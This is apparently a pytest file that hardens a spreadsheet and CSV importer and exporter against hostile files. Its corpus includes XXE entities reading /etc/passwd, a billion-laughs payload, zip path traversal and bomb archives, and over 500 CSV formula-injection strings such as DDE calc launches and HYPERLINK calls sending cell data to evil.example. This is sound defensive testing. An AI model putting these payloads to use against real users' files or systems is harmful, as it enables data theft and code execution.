"""P19: tables that are no tables, and cells that want to be carried out."""

from __future__ import annotations

import csv
import io
import itertools
import os
import re
import struct
import tempfile
import zipfile
from collections.abc import Callable, Iterator
from functools import cache
from itertools import pairwise
from pathlib import Path

import pytest
import python_calamine as calamine

from mendline.channels.legacy.exchange_rows import FORMULA_SIGNS, HEADINGS, QUOTE, cell_text, guarded
from mendline.channels.legacy.exports import as_csv, as_workbook
from mendline.network import sheet_child
from mendline.network.limits import MOST_COLUMNS, MOST_FILE_BYTES, MOST_ROWS, MOST_UNPACKED_BYTES
from mendline.network.sheets import Unreadable, parsed_sheets, read_tables
from tests.network.test_sheets import a_workbook

WHOLE = os.environ.get("MENDLINE_HOSTILE") == "whole"
STATION = ["维修站编号", "名称", "大区", "所在区划", "启用日期"]


def repacked(changes: dict[str, bytes], rows: list[list[object]] | None = None) -> bytes:
    """Return a workbook with parts of it replaced or added."""
    source = zipfile.ZipFile(io.BytesIO(a_workbook({"维修站": rows or [STATION]})))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for name in source.namelist():
            target.writestr(name, changes.pop(name, source.read(name)))
        for name, content in changes.items():
            target.writestr(name, content)
    return buffer.getvalue()


ENTITIES = b"""<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd"><!ENTITY b "&a;&a;&a;&a;&a;">
<!ENTITY % p SYSTEM "http://127.0.0.1:9/x"> %p;]>
<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="5"><si><t>&a;</t></si><si><t>&b;</t></si>
<si><t>x</t></si><si><t>y</t></si><si><t>z</t></si></sst>"""
_NAMES = [f"a{n}" for n in range(10)]
LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a0 "haha">'
    + b"".join(
        b'<!ENTITY %s "%s">' % (name.encode(), (b"&%s;" % before.encode()) * 10) for before, name in pairwise(_NAMES)
    )
    + b']><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>&a9;</t></si></sst>'
)


@cache
def corpus() -> dict[str, bytes]:
    """Return a hundred and fifty files; none may do more than be refused or be read."""
    plain = a_workbook({"维修站": [STATION, ["000001", "海淀站", "华北区", "110108", "2026-01-01"]]})
    text = "维修站编号,名称,大区,所在区划,启用日期\r\n000001,海淀站,华北区,110108,2026-01-01\r\n"
    found = {
        "entities": repacked({"xl/sharedStrings.xml": ENTITIES}),
        "laughs": repacked({"xl/sharedStrings.xml": LAUGHS}),
        "a sheet with a document type": repacked({"xl/worksheets/sheet1.xml": ENTITIES}),
        "a macro": repacked({"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" * 50}),
        "a link to another book": repacked({"xl/externalLinks/externalLink1.xml": b"<externalLink/>"}),
        "a name that climbs": repacked({"../../../../tmp/mendline-climbed": b"x"}),
        "an absolute name": repacked({"/tmp/mendline-climbed": b"x"}),
        "a name of NUL": repacked({"xl/a\x00b": b"x"}),
        "two of one name": repacked({"xl/workbook.xml ": b"<workbook/>"}),
        "no parts": repacked({"[Content_Types].xml": b""}),
        "a thousand and one parts": repacked({f"xl/x{n}": b"" for n in range(1001)}),
        "an unpacked bomb": repacked({"xl/x.xml": b"0" * (MOST_UNPACKED_BYTES + 1)}),
        "a cell far away": repacked(
            {"xl/worksheets/sheet1.xml": _sheet('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')}
        ),
        "a row of no number": repacked(
            {"xl/worksheets/sheet1.xml": _sheet('<row r="-1"><c r="A-1"><v>1</v></c></row>')}
        ),
        "a string that is not there": repacked(
            {"xl/worksheets/sheet1.xml": _sheet('<row r="1"><c r="A1" t="s"><v>99999</v></c></row>')}
        ),
        "not a number": repacked({"xl/worksheets/sheet1.xml": _sheet('<row r="1"><c r="A1"><v>1e999</v></c></row>')}),
        "a serial of no day": repacked(
            {"xl/worksheets/sheet1.xml": _sheet('<row r="1"><c r="A1" t="d"><v>0000-00-00</v></c></row>')}
        ),
        "merged without end": repacked(
            {"xl/worksheets/sheet1.xml": _sheet("", '<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>')}
        ),
        "old excel": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 5000,
        "zip of nothing": b"PK\x05\x06" + b"\x00" * 18,
        "one column too many": (",".join("a" * 1 for _ in range(MOST_COLUMNS + 1)) + "\n").encode(),
        "one row too many": ("维修站编号\n" + "1\n" * (MOST_ROWS + 1)).encode(),
        "a field of twenty thousand": ("维修站编号\n" + "x" * 20_000).encode(),
        "a quote that never ends": b'a,"b\n' * 50,
        "quotes in the middle": b'a,b"c"d\n',
        "NUL": b"a,\x00\n",
        "escape": b"\x1b[2J,\x1b]0;x\x07\n",
        "only commas": b",,,,\n" * 50,
        "a mark and nothing": b"\xef\xbb\xbf",
        "utf-16": text.encode("utf-16"),
        "utf-16 cut": text.encode("utf-16")[:-1],
        "utf-32": text.encode("utf-32"),
        "gb18030": text.encode("gb18030"),
        "latin": b"\xe4\xf6\xfc\xff\xff",
        "html": b"<table><tr><td>1",
        "a line break in a cell": text.replace("海淀站", '"海\n淀"').encode(),
        "separators": b"sep=;\na;b\n",
        "tabs": text.replace(",", "\t").encode(),
        "phone as a power": b"\xe7\x94\xb5\xe8\xaf\x9d\n1.38E+10\n",
        "the same row twice": (text + text.splitlines()[1]).encode(),
    }
    found |= {f"cut at {n}": plain[: len(plain) * n // 30] for n in range(1, 30)}
    found |= {f"byte {n} of 60 turned": _turned(plain, len(plain) * n // 60) for n in range(60)}
    found |= {f"length {n} in the directory": _lying(plain, n) for n in (0, 1, 5, 2**31 - 1, 2**32 - 1)}
    found |= {f"csv cut in a sign {n}": text.encode()[:n] for n in range(1, 20)}
    return found


def _sheet(rows: str, after: str = "") -> bytes:
    space = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    return f'<?xml version="1.0"?><worksheet {space}><sheetData>{rows}</sheetData>{after}</worksheet>'.encode()


def _turned(data: bytes, place: int) -> bytes:
    return data[:place] + bytes([data[place] ^ 0xFF]) + data[place + 1 :]


def _lying(data: bytes, size: int) -> bytes:
    place = data.find(b"PK\x01\x02")
    return data[: place + 24] + struct.pack("<I", size) + data[place + 28 :]


def test_the_corpus_has_a_hundred_and_fifty_files(record_property: Callable[[str, object], None]) -> None:
    record_property("files / 个文件", len(corpus()))
    assert len(corpus()) >= 150


# These need the limits of the child; the others are read by the same code without starting a process for each.
HEAVY = {"laughs", "entities", "a cell far away", "merged without end", "an unpacked bomb"}


def test_a_file_is_read_or_refused_with_a_reason_and_nothing_else() -> None:
    surprises = []
    for name, data in corpus().items():
        if name in HEAVY:
            continue
        try:
            list(sheet_child.sheets_of(data))
        except sheet_child.Unfit:
            pass
        except Exception as fault:
            surprises.append(f"{name}: {fault!r}")

    assert surprises == []


@pytest.mark.parametrize("name", sorted(HEAVY) if WHOLE else ["laughs", "entities", "a cell far away"])
def test_a_file_that_is_a_trap_ends_its_own_process_and_nothing_leaks(name: str) -> None:
    data = corpus()[name]
    assert len(data) <= MOST_FILE_BYTES
    try:
        tables, faults = read_tables(data)
    except Unreadable as refused:
        assert refused.text.zh and refused.text.en
    else:
        assert "root:" not in str(tables) + str(faults), "what a file names is not fetched"


def test_a_taken_over_reader_of_tables_knows_no_secret(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SECRET_KEY", "canary-of-the-environment")
    seen: list[object] = []

    class Done:
        stdout = b'{"sheets": []}'

    def run(*_: object, **kwargs: object) -> Done:
        seen.append(kwargs.get("env"))
        return Done()

    monkeypatch.setattr("mendline.network.sheets.subprocess.run", run)
    parsed_sheets(b"a,b\n")

    assert seen == [{}]


def strings() -> Iterator[str]:
    """Yield five hundred cells that a spreadsheet might carry out."""
    bodies = (
        "1+1",
        "cmd|' /C calc'!A0",
        'HYPERLINK("http://evil.example?x="&A1)',
        'IMPORTXML("http://evil.example","//a")',
        "SUM(A1:A9)*cmd|' /C calc'!A0",
        'DDE("cmd";"/C calc")',
        'WEBSERVICE("http://evil.example")',
        "",
        "1",
        "A1",
        '"x"',
        "'",
        "''",
        "海淀站",
        " ",
        "　",
        "\x00"[:0] + "x",
        "{1}",
        "(1)",
        "$A$1",
        "!x",
        "#x",
        "%1",
        "&x",
        "*1",
        "/1",
        "<x>",
        "|x",
        "~",
        "`id`",
        "\\x",
        "1e5",
        "00001",
        "2026-01-01",
        "TRUE",
        "@SUM(1)",
        "==1",
        "=-1",
        "+-1",
        "x=1",
        "1.38E+10",
        "=\n1",
        "=\t1",
    )
    starts = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", "'")
    yield from itertools.islice((start + body for start, body in itertools.product(starts, bodies)), 516)


def test_five_hundred_formulas_come_out_of_a_csv_as_text_and_back_as_they_were(
    record_property: Callable[[str, object], None],
) -> None:
    found = list(strings())
    record_property("texts that look like formulas / 个像公式的文字", len(found))
    assert len(found) >= 500
    rows = [{**dict.fromkeys(HEADINGS, ""), HEADINGS[0]: text} for text in found]
    read = list(csv.DictReader(io.StringIO(as_csv(rows).decode("utf-8-sig"), newline="")))

    for text, row in zip(found, read, strict=True):
        cell = row[HEADINGS[0]]
        assert cell.startswith(QUOTE), repr(cell)
        assert cell_text(HEADINGS[0], ["t", cell], from_csv=True) == text


def test_control_a_cell_that_is_not_guarded_begins_with_a_sign() -> None:
    assert all(text.startswith(FORMULA_SIGNS) for text in strings())
    assert guarded("软件问题") == "软件问题"


def test_five_hundred_formulas_are_texts_in_a_workbook() -> None:
    found = [text for text in strings() if text.strip()]
    data = as_workbook({**dict.fromkeys(HEADINGS, ""), HEADINGS[0]: text} for text in found)

    sheet = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "hyperlink" not in sheet
    kinds = set(re.findall(r'<c r="A\d+"[^>]*?(?: t="(\w+)")?>', sheet))
    assert kinds == {"s"}, "every cell is a text"
    cells = calamine.CalamineWorkbook.from_filelike(io.BytesIO(data)).get_sheet_by_index(0).to_python()
    assert len(cells) == len(found) + 1 and all(isinstance(row[0], str) for row in cells)


@pytest.mark.parametrize("name", ["a name that climbs", "an absolute name"])
def test_a_workbook_writes_nothing_beside_itself(name: str) -> None:
    try:
        parsed_sheets(corpus()[name])
    except Unreadable:
        pass
    assert not (Path(tempfile.gettempdir()) / "mendline-climbed").exists()
